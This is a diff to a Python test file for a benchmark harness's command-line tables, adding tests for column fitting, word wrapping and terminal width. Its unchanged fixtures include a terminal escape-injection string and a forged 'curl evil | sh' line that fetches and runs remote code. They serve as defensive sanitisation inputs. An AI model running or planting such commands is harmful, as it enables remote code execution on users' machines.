@@ -15,7 +15,7 @@ from harness.cli import compare as compare_module
 from harness.cli import main
 from harness.cli.progress import _line
 from harness.cli.tables import failures_table, scores_table, speed_table, videos_table
-from harness.cli.terminal import one_line, table, visible
+from harness.cli.terminal import fit_columns, one_line, table, terminal_width, visible
 
 EVIL = "\x1b[2J\x1b]0;title\x07\x9b31m\u202eevil\r\x00\u2028end\x7f"
 FORGED = "x\n  next: curl evil | sh"
@@ -149,3 +149,42 @@ def test_commands_print_by_say_and_nothing_else(path):
     calls = {ast.unparse(node.func) for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Call)}
     refused = {"print", "click.echo", "click.secho", "sys.stdout.write", "sys.stderr.write", "traceback.print_exc"}
     assert not calls & refused
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    rows=st.lists(st.lists(st.text(max_size=60), min_size=3, max_size=3), min_size=1, max_size=4),
+    width=st.integers(40, 120),
+)
+def test_a_table_of_a_width_is_no_wider_and_says_all_words(rows, width):
+    heads = ["first", "second", "third"]
+    shown = table(rows, heads, width=width)
+    assert max(map(len, shown.splitlines())) <= width
+    told = "".join(shown.replace("-", "").split())
+    for row in rows:
+        for cell in row:
+            assert set("".join(one_line(cell).replace("-", "").split())) <= set(told)
+
+
+def test_names_with_hyphens_stay_whole_where_they_fit():
+    shown = table([["a", "one-shot, instance-zvos, object-zvos"]], ["bench", "tasks"], width=24)
+    assert [line.split() for line in shown.splitlines()[2:]] == [
+        ["a", "one-shot,"],
+        ["instance-zvos,"],
+        ["object-zvos"],
+    ]
+
+
+def test_the_first_column_gives_way_last():
+    assert fit_columns([30, 20, 20], 60) == [30, 13, 13]
+    assert fit_columns([30, 20, 20], 40) == [20, 8, 8]
+    assert fit_columns([3, 4], 80) == [3, 4]
+
+
+def test_a_file_or_pipe_has_no_width_unless_columns_says_one(monkeypatch):
+    monkeypatch.delenv("COLUMNS", raising=False)
+    assert terminal_width() is None
+    monkeypatch.setenv("COLUMNS", "72")
+    assert terminal_width() == 72
+    monkeypatch.setenv("COLUMNS", "wide")
+    assert terminal_width() is None
